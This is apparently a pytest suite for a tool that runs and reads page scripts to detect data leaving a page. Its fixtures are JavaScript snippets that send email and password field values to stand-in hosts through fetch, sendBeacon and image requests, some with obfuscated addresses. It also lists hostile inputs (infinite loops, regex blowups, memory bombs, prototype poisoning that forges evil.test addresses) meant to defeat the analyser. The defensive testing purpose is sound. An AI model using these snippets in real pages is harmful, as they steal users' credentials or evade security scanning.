"""What running a small script on an inert page adds to reading it, and what it must not do to it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from undertow.analysis import flow, rehearsal, sandbox
from undertow.analysis.facts import read_script
from undertow.analysis.rehearsal import MAX_BYTES, Rehearsal
from undertow.model import ScriptFacts

MAIL = "document.querySelector('input[type=email]').value"
SEND = f"fetch('https://read.test/'+{MAIL});"
POST = f"{{method:'POST',body:{MAIL}}}"


def sends(facts: ScriptFacts) -> set[str]:
    """`data>host` of the precise flows."""
    return {f"{f.data}>{f.host}" for f in facts.flows if f.tier == "precise"}


def run(source: str) -> ScriptFacts:
    return read_script(source.encode("utf-8", "surrogatepass"))


def only_read(source: str) -> ScriptFacts:
    """The facts without a rehearsal."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(flow, "rehearse", lambda *_: Rehearsal())
        return run(source)


# --- what a run finds -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "source",
    [
        f"const t=new Map();for(const[k,v]of[['a','shown'],['b','none']])t.set(k,`https://${{v}}.test/`);"
        f"const go=k=>fetch(t.get(k),{POST});go([...t.keys()].find(k=>t.get(k).includes('shown')))",
        f"function*g(){{yield 'https://';yield 'shown';yield '.test/'}}fetch([...g()].join(''),{POST})",
        f"const r={{[Symbol.iterator]:()=>{{let i=0;return{{next:()=>({{done:i++>0,value:{MAIL}}})}}}}}};"
        f"for(const v of r)navigator.sendBeacon('https://shown.test/',v)",
        f"const h=[115,104,111,119,110].reduce((a,c)=>a+String.fromCharCode(c),'');fetch(`https://${{h}}.test/`,{POST})",
        f"const e=Reflect.construct(Array,['https:','','shown.test','']);fetch(Reflect.apply(e.join,e,['/']),{POST})",
    ],
)
def test_what_tables_iterators_and_computed_addresses_lead_to_is_found(source: str) -> None:
    assert sends(run(source)) == {"email>shown.test"}


def test_an_address_that_is_read_is_no_worse_known_after_a_run() -> None:
    assert sends(run(SEND)) == sends(only_read(SEND)) == {"email>read.test"}


def test_a_path_says_that_it_was_seen_in_a_run() -> None:
    by_run = f"const m=new Map([['v',{MAIL}]]);const r={{}};Reflect.set(r,'v',Reflect.apply(m.get,m,['v']));"
    facts = run(by_run + "navigator.sendBeacon('https://shown.test/',Reflect.get(r,'v'))")
    assert any("run in a sandbox" in step.what for flow in facts.flows for step in flow.path)
    assert not any("run in a sandbox" in step.what for flow in run(SEND).flows for step in flow.path)


# --- near misses ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "source",
    [
        f"let v={MAIL};v='';navigator.sendBeacon('https://a.test/',v)",
        f"const o={{v:{MAIL}}};delete o.v;navigator.sendBeacon('https://a.test/',JSON.stringify(o))",
        f"const m=new Map([['v',{MAIL}]]);m.clear();navigator.sendBeacon('https://a.test/',[...m].join())",
        f"function never(){{navigator.sendBeacon('https://a.test/',{MAIL})}}",
        f"if(1>2)navigator.sendBeacon('https://a.test/',{MAIL})",
        f"const n={MAIL}==='x'?1:2;navigator.sendBeacon('https://a.test/','n='+n)",
        f"navigator.sendBeacon('https://a.test/',String([...{MAIL}].length))",
        "document.querySelector('input[type=file]').onchange=e=>"
        "navigator.sendBeacon('https://a.test/',String(e.target.files.length))",
    ],
)
def test_nothing_is_added_where_the_data_is_not_in_what_is_sent(source: str) -> None:
    assert sends(run(source)) <= sends(only_read(source))


def test_a_field_kept_under_its_own_name_is_no_identifier() -> None:
    source = (
        "const f=document.querySelector('input[type=password]');const s=v=>{new Image().src='https://a.test/?'+v};"
        "Object.defineProperty(f,'value',{set:s});f.value=localStorage.getItem('old-password')??"
        "document.querySelector('#again[type=password]').value"
    )
    assert sends(run(source)) == {"password>a.test"}


# --- two runs -------------------------------------------------------------------------------------------------------
def test_both_what_is_done_with_and_without_stored_values_is_seen() -> None:
    source = (
        "const at=new Map([[true,'https://kept.test/'],[false,'https://anew.test/']]);"
        f"fetch(at.get(localStorage.getItem('seen')!==null),{POST})"
    )
    assert sends(run(source)) == {"email>kept.test", "email>anew.test"}


def test_no_host_is_told_where_lots_are_drawn() -> None:
    source = (
        "const hosts=new Map([[0,'a'],[1,'b'],[2,'c'],[3,'d'],[4,'e'],[5,'f'],[6,'g'],[7,'h']]);"
        f"fetch('https://'+hosts.get(Math.floor(Math.random()*8))+'.test/',{POST})"
    )
    assert sends(run(source)) <= {"email>None", *sends(only_read(source))}


def test_a_script_that_looks_nothing_up_is_run_once(monkeypatch: pytest.MonkeyPatch) -> None:
    runs: list[str] = []
    plain = sandbox.Sandbox.rehearse

    def counted(self: sandbox.Sandbox, world: str, *rest: str) -> object:
        runs.append(world)
        return plain(self, world, *rest)

    monkeypatch.setattr(sandbox.Sandbox, "rehearse", counted)
    run(SEND)
    assert len(runs) == 1
    run(SEND + "localStorage.getItem('a')")
    assert len(runs) == 3


def test_a_large_script_is_only_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox.Sandbox, "rehearse", lambda *_: pytest.fail("was run"))
    assert sends(run(SEND + "/*" + "x" * MAX_BYTES + "*/")) == {"email>read.test"}


# --- hostile scripts ------------------------------------------------------------------------------------------------
ENDLESS = {
    "loop": "while(true){}",
    "caught loop": "for(;;){try{for(;;){}}catch(e){}}",
    "recursion": "function f(){return f()}f();",
    "caught recursion": "function g(){try{g()}catch(e){g()}}g();",
    "microtasks": "function f(){Promise.resolve().then(f);Promise.resolve().then(f)}f();",
    "promise chain": "(async()=>{for(;;)await 0})();",
    "timers": "function f(){setTimeout(()=>f());setTimeout(()=>f())}f();",
    "slow timers": "function f(){for(let i=0;i<9;i++)'a'.repeat(1e6).split('').reverse().join('');"
    "setTimeout(()=>f())}f();",
    "pattern": "/^(a+)+$/.test('a'.repeat(40)+'b');",
    "generator": "function*g(){for(;;)yield 1}[...g()];",
    "memory": "const a=[];for(;;)a.push(new Array(1e6).fill(0));",
    "giant string": "let s='a';for(let i=0;i<40;i++)s+=s;",
    "giant number": "2n**(2n**24n);",
    "waiting": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0);",
}
POISON = {
    "push": "Array.prototype.push=function(){throw 1};",
    "lists": "Array.prototype.push=function(){return 0};Array.prototype.join=()=>'x';Array.prototype.map=()=>[];",
    "iterator": "Array.prototype[Symbol.iterator]=function*(){for(;;)yield 1};",
    "setters": "for(const o of [Object,Array])Object.defineProperty(o.prototype,'0',{"
    "set(){},get(){return['https://evil.test',1]}});",
    "getters": "Object.defineProperty(Object.prototype,'events',{get(){return[[1,'https://evil.test']]}});",
    "JSON text": 'JSON.stringify=()=>\'{"looked":true,"events":[[1,"https://evil.test/"],[2,3],4,null]}\';',
    "JSON number": "JSON.stringify=()=>5;",
    "JSON depth": "JSON.stringify=()=>'['.repeat(100000);",
    "JSON error": "JSON.stringify=()=>{throw 1};",
    "toJSON": "Object.prototype.toJSON=()=>5;Array.prototype.toJSON=()=>5;String.prototype.toJSON=()=>5;",
    "texts": ""
    "for(const k of ['slice','match','replace','trim','indexOf','split'])String.prototype[k]=()=>'https://evil.test/';",
    "patterns": "RegExp.prototype.exec=()=>['https://evil.test/'];RegExp.prototype.test=()=>true;",
    "String": "String=()=>'https://evil.test/';",
    "maps": "WeakMap.prototype.get=WeakMap.prototype.has=()=>{throw 1};Map.prototype.get=()=>5;"
    "Object.keys=()=>{throw 1};",
    "promises": "Promise.prototype.then=function(){for(;;){}};",
    "globals": "for(const k of Object.getOwnPropertyNames(globalThis))try{globalThis[k]=null;"
    "delete globalThis[k]}catch(e){}",
    "recorder by search": "for(const k of Object.getOwnPropertyNames(globalThis))"
    "try{if(k.length<5)for(let i=0;i<99;i++)"
    "globalThis[k](i,'url','https://evil.test/')}catch(e){}",
    "recorder taken away": "try{(0,eval)('u'+'$v=null;u'+'$r=null')}catch(e){}",
    "own functions": "globalThis['u'+'$v']=()=>'https://evil.test/';globalThis['u'+'$r']=()=>5;",
    "toString": "fetch({toString(){throw 1}});",
    "thrown proxy": "setTimeout(()=>{throw new Proxy(new Error(),{get(){for(;;){}}})});",
    "proxy": "const o=new Proxy({},{get(){throw 1},ownKeys(){throw 2},has(){return true}});"
    "fetch('https://none.test/',o);",
    "proxy without end": "const o=new Proxy({},{get(){return o},ownKeys(){return Array.from({length:1e5},(_,i)=>''+i)},"
    "getOwnPropertyDescriptor(){return{value:1,configurable:true,enumerable:true}}});"
    "fetch('https://none.test/',{body:o,headers:o});",
    "unknown syntax": "using x=null;",
    "decorator": "@d class A{}",
    "private use": "const s='\ue100\ue101\uf8ef\uf8f0\ue010';fetch('https://none.test/'+s);",
    "escaped private use": "const s='\\ue100\\u{e101}';fetch('https://none.test/'+s);",
    "half a pair": "new Map([[1,'https://none\\ud800.test/']]).forEach(v=>fetch(v));",
    "no character": "fetch('https://none.test/\\0');",
    "directive": "'use strict';undefined_=1;",
}


@pytest.mark.parametrize("before", [*ENDLESS.values(), *POISON.values()], ids=[*ENDLESS, *POISON])
def test_a_hostile_script_neither_hides_nor_forges_what_was_read(before: str) -> None:
    source = before + SEND
    facts = run(source)
    assert facts == run(source)
    assert sends(facts) == sends(only_read(source))


def test_more_sources_than_there_are_marks_are_only_read(monkeypatch: pytest.MonkeyPatch) -> None:
    many = SEND + ";document.cookie" * 1_500
    assert sends(run(many)) == {"email>read.test"}
    monkeypatch.setattr(rehearsal, "MAX_SOURCES", 1_000)
    monkeypatch.setattr(sandbox.Sandbox, "rehearse", lambda *_: pytest.fail("was run"))
    assert sends(run(many)) == {"email>read.test"}


# --- any script -----------------------------------------------------------------------------------------------------
NAMES = st.sampled_from(["a", "b", "c"])
VALUES = st.sampled_from(
    [MAIL, "''", "a", "b", "[a,b]", "{a,b}", "a+b", "new Map([['a',a],['b',b]])", "Object.entries(Object(a))",
     "JSON.stringify(b)", "(()=>a)()", "localStorage.getItem('a')", "'https://one.test/'", "'https://two.test/'+a",
     "a?.b", "Math.random()", "encodeURIComponent(a)", "new Proxy(Object(a),{})"],
)  # fmt: skip
STATEMENTS = st.one_of(
    st.builds("var {}={};".format, NAMES, VALUES),
    st.builds("{}={};".format, NAMES, VALUES),
    st.builds("try{{fetch({},{{method:'POST',body:{}}})}}catch(e){{}}".format, NAMES, VALUES),
    st.builds("navigator.sendBeacon('https://one.test/',{});".format, VALUES),
    st.builds("if({}){{{}={}}}".format, VALUES, NAMES, VALUES),
    st.builds("for(var {} of Object.keys(Object({}))){{}}".format, NAMES, VALUES),
    st.builds("setTimeout(()=>{{{}={}}});".format, NAMES, VALUES),
    st.builds("function {}(){{return {}}}".format, NAMES, VALUES),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(STATEMENTS, min_size=1, max_size=7))
def test_of_any_program_data_that_was_read_to_be_sent_stays_so(statements: list[str]) -> None:
    source = "var a,b,c;" + "".join(statements)
    facts = run(source)
    assert facts == run(source)
    pairs = {(f.data, f.sink_span) for f in facts.flows}
    assert {(f.data, f.sink_span) for f in only_read(source).flows} <= pairs
